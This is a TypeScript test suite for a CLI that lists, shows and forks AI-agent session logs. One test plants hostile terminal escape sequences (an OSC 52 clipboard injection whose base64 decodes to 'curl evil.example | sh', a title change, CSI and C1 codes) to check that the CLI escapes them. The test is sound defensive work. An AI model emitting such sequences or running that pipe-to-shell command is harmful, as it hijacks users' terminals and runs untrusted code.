import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { appendFile, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Command } from 'commander';
import { registerSessionCommands } from '../../src/cli/sessions-command.js';
import { JsonlSessionStore, replaySession } from '../../src/sessions/index.js';
import { withTempDir } from '../helpers/temp-dir.js';
import { META, appendAll, assistant, call, itemRecord, output, toolTurn } from './session-fixtures.js';

interface Run {
  stdout: string;
  stderr: string;
}

/** Run one command line against a fresh program, as main would, capturing its output. */
async function glassbox(home: string, ...args: string[]): Promise<Run> {
  const run: Run = { stdout: '', stderr: '' };
  const program = new Command('glassbox').exitOverride().configureOutput({
    writeOut: (text) => (run.stdout += text),
    writeErr: (text) => (run.stderr += text),
  });
  registerSessionCommands(program, {
    resolveHome: () => home,
    stdout: (text) => (run.stdout += text),
    stderr: (text) => (run.stderr += text),
  });
  await program.parseAsync(args, { from: 'user' });
  return run;
}

async function seed(home: string): Promise<{ store: JsonlSessionStore; first: string; second: string }> {
  let clock = Date.parse('2025-06-01T09:00:00.000Z');
  const store = new JsonlSessionStore(join(home, 'sessions'), { now: () => new Date((clock += 60_000)) });
  const one = await store.create({ ...META, cwd: '/repos/alpha' });
  await appendAll(one, toolTurn(1, 'Explain the build script'));
  await one.close();
  const two = await store.create({ ...META, cwd: '/repos/beta', model: 'other-model' });
  await appendAll(two, [...toolTurn(1, 'Fix the flaky test'), ...toolTurn(2, 'Now add a regression test')]);
  await two.close();
  return { store, first: one.sessionId, second: two.sessionId };
}

describe('glassbox sessions / show / fork', () => {
  it('lists sessions as a table, newest first, and as JSON', async () => {
    await withTempDir(async (home) => {
      const { first, second } = await seed(home);
      const table = await glassbox(home, 'sessions');
      const lines = table.stdout.trimEnd().split('\n');
      assert.match(lines[0]!, /^ID\s+CREATED\s+UPDATED\s+TURNS\s+TOKENS\s+MODEL\s+CWD\s+TITLE$/);
      assert.equal(lines.length, 3);
      assert.ok(lines[1]!.startsWith(second) && lines[1]!.includes('Fix the flaky test') && lines[1]!.includes('/repos/beta'));
      assert.match(lines[1]!, /\s2\s+180\s+test-model\s/);
      assert.ok(lines[2]!.startsWith(first));
      assert.equal(table.stderr, '');

      const json = JSON.parse((await glassbox(home, 'sessions', '--json', '--query', 'ALPHA')).stdout) as {
        sessionId: string;
        turns: number;
      }[];
      assert.deepEqual(
        json.map((summary) => [summary.sessionId, summary.turns]),
        [[first, 1]],
      );

      const limited = await glassbox(home, 'sessions', '--limit', '1');
      assert.equal(limited.stdout.trimEnd().split('\n').length, 2);
      assert.match(limited.stderr, /more sessions not shown/);

      await assert.rejects(glassbox(home, 'sessions', '--limit', 'zero'), /positive integer/);
    });
  });

  it('says so when there are no sessions', async () => {
    await withTempDir(async (home) => {
      const run = await glassbox(home, 'sessions');
      assert.equal(run.stdout, `No sessions yet in ${join(home, 'sessions')}.\n`);
      assert.equal((await glassbox(home, 'sessions', '--json')).stdout, '[]\n');
    });
  });

  it('shows a session readably, or as the raw JSONL records, with problems on stderr', async () => {
    await withTempDir(async (home) => {
      const { store, second } = await seed(home);
      const path = store.sessionPath(second);
      const original = await readFile(path, 'utf8');
      const lines = original.split('\n');
      lines.splice(4, 0, '{oops');
      await writeFile(path, lines.join('\n'));

      const readable = await glassbox(home, 'sessions', 'show', 'last');
      const shown = readable.stdout.trimEnd().split('\n');
      assert.equal(shown.length, original.split('\n').length - 1);
      assert.match(shown[0]!, /^\d\d:\d\d:\d\d\.\d{3} {2}session_meta\s+session [0-9a-f-]{36} · other-model \(chat\) · \/repos\/beta/);
      assert.ok(
        shown.some((line) =>
          /turn_started\s+turn 2 · test-model · approval on-request · sandbox workspace-write · "Now add a regression test"/.test(line),
        ),
      );
      assert.ok(shown.some((line) => /response_item\s+call list_dir t1-b \{"path":"\."\}/.test(line)));
      assert.ok(shown.some((line) => /audit\s+tool_finished read_file t1-a: finished in 3 ms/.test(line)));
      assert.ok(shown.some((line) => /turn_completed\s+turn 2 completed · 3 rounds · 90 tokens/.test(line)));
      assert.equal(readable.stderr, `${path}:5: invalid JSON: ${errorText('{oops')}\n`);

      const raw = await glassbox(home, 'sessions', 'show', second.slice(0, 20), '--json');
      assert.equal(raw.stdout, original, 'the raw records are the file minus the bad line');

      await appendFile(path, '{"type":"warn');
      const torn = await glassbox(home, 'sessions', 'show', second, '--json');
      assert.equal(torn.stdout, original);
      assert.match(torn.stderr, new RegExp(`:${original.split('\n').length + 1}: unfinished last line \\(13 bytes\\) ignored`));
    });
  });

  it('forks a session and prints the new id', async () => {
    await withTempDir(async (home) => {
      const { store, second } = await seed(home);
      const run = await glassbox(home, 'fork', second, '--at-turn', '1');
      const forkId = run.stdout.trim();
      assert.match(forkId, /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      const fork = await store.read(forkId);
      assert.deepEqual(fork.meta.parent, { sessionId: second, atTurn: 1 });
      assert.equal(replaySession(fork.records).turns, 1);
      await assert.rejects(glassbox(home, 'fork', second, '--at-turn', '7'), (error: unknown) => {
        assert.equal((error as { exitCode?: number }).exitCode, 2);
        assert.match((error as Error).message, /it has 2 turns/);
        return true;
      });
    });
  });

  it('prints no terminal control sequence the session holds: OSC 52, a title, CSI, an 8-bit C1 CSI', async () => {
    await withTempDir(async (home) => {
      // What a model (or a tool's output, or a prompt pasted from elsewhere) can put in a session.
      const clipboard = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
      const title = '\x1b]0;pwned\x07';
      const csi = '\x1b[2J\x1b[1;1H';
      const c1 = '\x9b2J\x9d0;c1 title\x9c';
      const hostile = `answer ${clipboard}${title}${csi}${c1}\x00\x7f\u202e end`;
      const store = new JsonlSessionStore(join(home, 'sessions'));
      const writer = await store.create({ ...META, cwd: `/repos/${title}x`, model: `m${csi}` });
      await appendAll(writer, [
        ...toolTurn(1, `fix it ${title}`),
        itemRecord(1, assistant(hostile, true)),
        itemRecord(1, call('h1', `shell${csi}`, JSON.stringify({ command: `echo ${c1}` }))),
        itemRecord(1, output('h1', 'shell', `out ${clipboard}`)),
        { type: 'warning', turn: 1, code: 'X', message: `warned ${c1}` },
      ]);
      await writer.close();
      // A torn-in line whose parse error quotes the raw bytes on stderr.
      await appendFile(store.sessionPath(writer.sessionId), `\x1b]52;c;AAAA\x07\n{"type":"turn_started"}\n`);

      // Everything but newline (and tab) in the C0 range, DEL, C1, and the bidi/line separators.
      const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
      const readable = await glassbox(home, 'sessions', 'show', 'last');
      const raw = await glassbox(home, 'sessions', 'show', 'last', '--json');
      const table = await glassbox(home, 'sessions');
      const list = await glassbox(home, 'sessions', '--json');
      for (const [what, text] of Object.entries({
        'show stdout': readable.stdout,
        'show stderr': readable.stderr,
        'show --json stdout': raw.stdout,
        'show --json stderr': raw.stderr,
        'sessions stdout': table.stdout,
        'sessions --json stdout': list.stdout,
      })) {
        assert.ok(!CONTROL.test(text), `${what}: ${JSON.stringify(text)}`);
      }
      assert.match(readable.stderr, /invalid JSON/);
      // Shown, not obeyed: the reader still sees what was there.
      assert.ok(readable.stdout.includes('answer \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007'), readable.stdout);
      assert.ok(readable.stdout.includes('\\u009b2J'), readable.stdout);
      assert.ok(table.stdout.includes('\\e]0;pwned\\u0007'), table.stdout);
      // The JSON stays the same JSON: every string parses back to the bytes on disk.
      const records = raw.stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as { item?: { content?: string } });
      assert.ok(records.some((record) => record.item?.content === hostile));
      assert.equal((JSON.parse(list.stdout) as { title: string }[])[0]!.title, `fix it ${title}`);
    });
  });

  it('fails with exit code 2 and names the folder for unknown ids', async () => {
    await withTempDir(async (home) => {
      await seed(home);
      for (const args of [
        ['sessions', 'show', 'nope'],
        ['fork', 'abcdef12'],
      ]) {
        await assert.rejects(glassbox(home, ...args), (error: unknown) => {
          assert.equal((error as { exitCode?: number }).exitCode, 2);
          assert.equal((error as Error).message, `no session ${args[args.length - 1]} in ${join(home, 'sessions')}`);
          return true;
        });
      }
    });
  });
});

function errorText(text: string): string {
  try {
    JSON.parse(text);
  } catch (error) {
    return (error as Error).message;
  }
  return '';
}
